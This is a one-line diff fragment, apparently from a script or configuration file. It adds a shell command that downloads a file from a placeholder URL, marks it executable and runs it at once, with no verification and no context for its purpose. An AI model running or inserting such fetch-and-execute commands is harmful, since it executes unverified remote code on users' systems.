@@ -1,0 +1,1 @@
+curl -O https://x/tool && chmod +x tool && ./tool
